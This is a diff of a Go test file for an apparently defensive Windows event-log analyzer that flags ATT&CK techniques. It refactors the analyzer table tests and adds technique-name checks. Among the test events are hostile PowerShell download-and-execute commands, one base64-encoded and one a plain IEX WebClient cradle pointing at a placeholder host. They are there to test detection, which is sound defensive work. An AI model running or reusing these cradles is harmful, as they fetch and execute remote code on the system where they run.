@@ -20,7 +20,7 @@ func TestRegistrySortedAndUnique(t *testing.T) {
 		if m.ID <= prev {
 			t.Errorf("registry not sorted or has duplicates: %q after %q", m.ID, prev)
 		}
-		if m.Technique.ID == "" || m.Severity == "" || m.Description == "" || len(m.References) == 0 {
+		if m.Technique.ID == "" || m.Description == "" || len(m.References) == 0 {
 			t.Errorf("%s: incomplete metadata %+v", m.ID, m)
 		}
 		prev = m.ID
@@ -124,14 +124,18 @@ const (
 	expl = `C:\Windows\explorer.exe`
 )
 
+// tableCase is one row of a table test: events, and the finding of the
+// technique that must (or must not) come of them.
+type tableCase struct {
+	name      string
+	events    []ev
+	technique string
+	severity  string // "" when no finding of the technique must appear, "!s" when none of severity s or above
+	title     string
+}
+
 func TestAnalyzers(t *testing.T) {
-	tests := []struct {
-		name      string
-		events    []ev
-		technique string
-		severity  string // "" when no finding of the technique must appear, "!s" when none of severity s or above
-		title     string
-	}{
+	tests := []tableCase{
 		{"encoded command", []ev{sysmon1(ps, expl, `powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`)},
 			"T1059.001", "high", "PowerShell -EncodedCommand: download"},
 		{"download cradle with iex", []ev{security4688(ps, cmd, `powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')`)},
@@ -301,12 +305,21 @@ func TestAnalyzers(t *testing.T) {
 		{"out of hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-09T23:30:00Z"}},
 			"T1059", "low", "cmd.exe ran 1 time outside business hours on Saturday 2024-03-09 (23:30:00–23:30:00 UTC)"},
 	}
+	runTable(t, tests)
+}
+
+// runTable runs the analyzers on each case's events and checks the
+// findings of its technique; every finding's technique and related
+// techniques must have a name in the timeline's table.
+func runTable(t *testing.T, tests []tableCase) {
+	t.Helper()
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			db := newTimeline(t, tt.events)
 			if _, err := Run(context.Background(), db, Options{}); err != nil {
 				t.Fatal(err)
 			}
+			checkTechniqueNames(t, db)
 			rows, err := db.Query(`SELECT severity, title, rule FROM findings WHERE technique_id = ? ORDER BY id`, tt.technique)
 			if err != nil {
 				t.Fatal(err)
@@ -330,7 +343,7 @@ func TestAnalyzers(t *testing.T) {
 			}
 			if below, ok := strings.CutPrefix(tt.severity, "!"); ok {
 				for _, g := range got {
-					if sev, _, _ := strings.Cut(g, ":"); severityRank[sev] >= severityRank[below] {
+					if sev, _, _ := strings.Cut(g, ":"); rankOf(sev) >= rankOf(below) {
 						t.Errorf("false positive: %s", g)
 					}
 				}
@@ -340,6 +353,31 @@ func TestAnalyzers(t *testing.T) {
 				t.Errorf("want %s %q, got %v", tt.severity, tt.title, got)
 			}
 		})
+	}
+}
+
+// checkTechniqueNames fails when a finding names a technique, as its own or
+// a related one, that the timeline's table does not name.
+func checkTechniqueNames(t *testing.T, db *sql.DB) {
+	t.Helper()
+	rows, err := db.Query(`SELECT technique_id, technique_name, related FROM findings`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	for rows.Next() {
+		var id, name, rel string
+		rows.Scan(&id, &name, &rel)
+		var related []string
+		json.Unmarshal([]byte(rel), &related)
+		if name == "" {
+			t.Errorf("finding of %s has no technique name", id)
+		}
+		for _, r := range append(related, id) {
+			if tq, ok := timeline.LookupTechnique(r); !ok || tq.Name == "" {
+				t.Errorf("technique %s has no name in the timeline's table", r)
+			}
+		}
 	}
 }
 
@@ -620,4 +658,9 @@ func TestRepeatsFold(t *testing.T) {
 	if strings.Join(got, "\n") != strings.Join(want, "\n") {
 		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
 	}
+}
+
+func rankOf(name string) timeline.Severity {
+	s, _ := timeline.ParseSeverity(name)
+	return s
 }
